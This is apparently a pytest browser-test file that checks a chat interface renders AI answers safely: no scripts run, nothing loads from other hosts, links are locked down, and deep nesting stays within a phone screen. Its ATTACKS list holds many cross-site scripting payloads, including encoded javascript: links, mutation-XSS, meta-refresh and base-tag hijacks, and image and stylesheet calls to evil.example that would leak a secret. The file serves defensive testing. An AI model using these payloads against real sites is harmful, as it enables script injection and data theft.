"""What an answer on the page may not do, in a real browser: run, load, write markup, or burst the page."""

from __future__ import annotations

import pytest

from browser import Visit

FENCE = "```"


@pytest.fixture
def visit(browser, scripted):
    made = Visit(browser, scripted.url)
    yield made
    made.close()


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png?secret'>",
    "![pixel](https://evil.example/pixel.png?secret)",
    '![pixel](https://evil.example/pixel.png "title" onerror=alert(1))',
    "![][x]\n\n[x]: https://evil.example/pixel.png",
    "[![in](https://evil.example/in.png)](https://example.com/)",
    '![a" onerror="alert(1)](x)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=a><button formaction='javascript:alert(1)'>go</button>",
    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<video><source onerror=alert(1)></video><audio src=https://evil.example/a.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div style='background: url(https://evil.example/x.png)'>styled</div>",
    "<a href='javascript:alert(1)'>link</a>",
    "<b onmouseover=alert(1) onclick=alert(1)>b</b>",
    "<input autofocus onfocus=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java&#115;cript:alert(1))",
    "[link](javascript&colon;alert(1))",
    "[link](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[link](<java\tscript:alert(1)>)",
    "[link](\x01javascript:alert(1))",
    "[link](vbscript:msgbox(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    "[link](blob:https://evil.example/1)",
    "[link](file:///etc/passwd)",
    "[link](//evil.example/x)",
    "[link](/metrics)",
    "<javascript:alert(1)>",
    "[a]\n\n[a]: javascript:alert(1)",
    '[link](https://example.com/"onmouseover="alert(1))',
    "[link](https://example.com/ \"a' onclick='alert(1)\")",
    "[<img src=x onerror=alert(1)>](https://example.com/)",
    f'{FENCE}html" onclick="alert(1)\n<img src=x onerror=alert(1)>\n{FENCE}',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  <script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<x-y onclick=alert(1)>own element</x-y>",
    "<p id=composer>clobbered</p><img name=page>",
]

ALLOWED = {
    *(
        "A",
        "BLOCKQUOTE",
        "BR",
        "BUTTON",
        "CODE",
        "DEL",
        "DIV",
        "EM",
        "H3",
        "H4",
        "H5",
        "H6",
        "HR",
        "LI",
        "OL",
    ),
    *("P", "PRE", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"),
}
ATTRIBUTES = {
    *("aria-hidden", "aria-label", "class", "data-origin", "href", "rel", "role", "scope", "start"),
    *("tabindex", "target", "type"),
}


def test_nothing_that_an_answer_says_is_run_or_loaded(visit, scripted):
    page = visit.page
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    names, attributes, links = set(), set(), set()
    for attack in ATTACKS:
        scripted.answer(f"before\n\n{attack}\n\nafter", 3)
        visit.ask(attack)
        visit.finish()
        answer = page.locator(".answer .text").last
        assert answer.inner_text().startswith("before")
        for link in answer.locator("a").all():
            links.add(link.get_attribute("href").split(":")[0])
            assert (link.get_attribute("rel"), link.get_attribute("target")) == (
                "noopener noreferrer",
                "_blank",
            )
        found = answer.evaluate(
            "e => [...e.querySelectorAll('*')].map(x => [x.tagName, x.getAttributeNames()])"
        )
        names |= {name for name, _ in found}
        attributes |= {each for _, given in found for each in given}
        page.get_by_role("button", name="New chat").click()
    assert names <= ALLOWED and attributes <= ATTRIBUTES and links == {"https"}
    assert page.locator("#composer").count() == 1 and page.evaluate("window.alert.toString()").count("native")
    # `visit` checks at its end that no other host was asked and that no policy had to refuse anything


def test_html_is_shown_as_text(visit, scripted):
    answer = scripted.show(visit, "<b>bold</b> and\n\n<div onclick=alert(1)>\n  block\n</div>\n\nend", 5)
    assert answer.locator("p").all_text_contents() == [
        "<b>bold</b> and",
        "<div onclick=alert(1)>\n  block\n</div>",
        "end",
    ]


def test_an_image_is_a_link_that_only_the_reader_follows(visit, scripted):
    answer = scripted.show(visit, "![A cat](https://example.com/cat.png?a=1&amp;b) and ![nothing](cat.png)")
    assert answer.locator("img").count() == 0
    image = answer.get_by_role("link", name="Image: A cat")
    assert image.get_attribute("href") == "https://example.com/cat.png?a=1&b"
    assert "Image: nothing" in answer.text_content() and answer.locator("a").count() == 1


def test_the_page_itself_cannot_write_markup(visit):
    """What `trusted-types` in the policy is for: a mistake in a script would be refused by the browser."""
    refused = """() => { try { document.createElement("p").innerHTML = "<b>b</b>"; return null; }
        catch (error) { return error.name; } }"""
    assert visit.page.evaluate(refused) == "TypeError"
    visit.complaints.clear()


@pytest.mark.parametrize("text", [">" * 20_000, "1. " * 5_000, "> - " * 3_000, "[" * 20_000, "**a " * 3_000])
def test_no_nesting_is_too_deep(visit, scripted, text):
    assert len(scripted.show(visit, text, 5_000).text_content()) > 100


@pytest.mark.parametrize("text", ["> " * 100 + "deep", "\n".join("  " * i + "- deep" for i in range(100))])
def test_deep_nesting_keeps_to_a_phone(browser, scripted, text):
    visit = Visit(browser, scripted.url, viewport={"width": 320, "height": 640})
    scripted.answer(text, 500)
    visit.ask("deep")
    visit.finish()
    assert "deep" in visit.page.locator(".answer .text").inner_text()
    assert visit.page.evaluate("document.documentElement.scrollWidth") == 320
    visit.close()
